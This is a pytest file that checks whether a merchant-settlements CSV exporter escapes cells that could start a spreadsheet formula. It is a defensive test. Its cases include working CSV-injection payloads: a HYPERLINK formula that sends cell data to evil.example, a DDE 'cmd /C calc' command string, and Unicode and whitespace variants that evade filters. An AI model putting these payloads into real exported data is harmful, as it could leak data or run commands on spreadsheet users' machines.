"""Text cells of the settlements CSV never become formulas in a spreadsheet."""
import pytest

from plugins.local_merchants.money.spreadsheet import text_cell

# (what a shop typed, the cell written)
CASES = [
    ("Boulangerie Passy", "Boulangerie Passy"),
    ("L'Épicerie d'Auteuil", "L'Épicerie d'Auteuil"),
    ("Café = bonheur", "Café = bonheur"),  # "=" not first: text for every spreadsheet
    ("73282932000074", "73282932000074"),
    ("", ""),
    (None, ""),
    ('=HYPERLINK("http://evil.example/?x="&A1,"Payer")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Payer")'),
    ("=1+1", "'=1+1"),
    ("+33 1 45 20 00 00", "'+33 1 45 20 00 00"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\tBoutique", "'\tBoutique"),  # a leading tab or CR is never kept bare
    ("\rBoutique", "'\rBoutique"),
    ("\n=1+1", "'\n=1+1"),
    ("   =1+1", "'   =1+1"),
    ("\u00a0=1+1", "'\u00a0=1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
    ("\uff0b1", "'\uff0b1"),
    ("\uff0d1", "'\uff0d1"),
    ("\uff20SUM(1)", "'\uff20SUM(1)"),
]


@pytest.mark.parametrize("typed, cell", CASES)
def test_text_that_could_start_a_formula_is_written_as_text(typed, cell):
    assert text_cell(typed) == cell
